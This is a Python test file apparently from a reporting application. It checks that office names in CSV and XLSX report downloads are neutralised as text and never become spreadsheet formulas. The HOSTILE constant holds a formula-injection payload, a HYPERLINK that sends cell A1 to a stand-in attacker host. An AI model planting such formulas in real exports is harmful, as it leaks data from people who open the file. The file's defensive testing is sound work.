"""Report downloads write names as text: a hostile office name never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from supervision.reports import DistrictReport, ReportPeriod, report_csv, report_xlsx
from tests.factories import make_person

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PERIOD = "start=2026-01-01&end=2026-03-31"


@pytest.fixture
def hostile_office(world: Any, db_session: Any, clock: Any) -> Any:
    clock.at = datetime(2026, 4, 10, 2, 0, tzinfo=UTC)
    world.office.name = HOSTILE
    make_person(db_session, world.office, "Q1", start_date=date(2025, 1, 1))
    db_session.flush()
    return world.office


def test_xlsx_office_name_is_a_string_not_a_formula(officer_console: Any, hostile_office: Any) -> None:
    response = officer_console.get(f"/console/report.xlsx?{PERIOD}")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith(HOSTILE)]
    assert cells, "the office row is in the export"
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # The raw sheet XML carries no formula element at all.
    assert b"<f>" not in _sheet_xml(response.data)


def test_csv_office_name_is_prefixed_with_a_quote(officer_console: Any, hostile_office: Any) -> None:
    response = officer_console.get(f"/console/report.csv?{PERIOD}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    labels = [cell for row in rows for cell in row[:6]]
    assert any(cell.startswith("'" + HOSTILE) for cell in labels)  # the label is "name (code)"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in labels)


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"])
def test_every_formula_start_is_neutralised(name: str) -> None:
    period = ReportPeriod(date(2026, 1, 1), date(2026, 3, 31))
    report = DistrictReport(period=period, scope="office", county=None, by_office=[("X1", name, 3), ("X2", "ok", -2)])

    text = report_csv(report).decode("utf-8-sig")
    cells = next(r for r in csv.reader(io.StringIO(text)) if r[3] == "X1")
    assert cells[5] == (name if name[0] not in "=+-@\t\r" else "'" + name)
    negative = next(r for r in csv.reader(io.StringIO(text)) if r[3] == "X2")
    assert negative[-1] == "-2"  # numbers stay numbers

    sheet = load_workbook(io.BytesIO(report_xlsx(report))).active
    row = next(r for r in sheet.iter_rows() if str(r[0].value).endswith("(X1)"))  # the item reads "name (code)"
    assert row[0].value == f"{name} (X1)".replace("\r", "\n")  # XML normalises a lone CR to LF
    assert row[0].data_type == "s"
    assert next(r for r in sheet.iter_rows() if str(r[0].value).endswith("(X2)"))[1].value == -2


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")
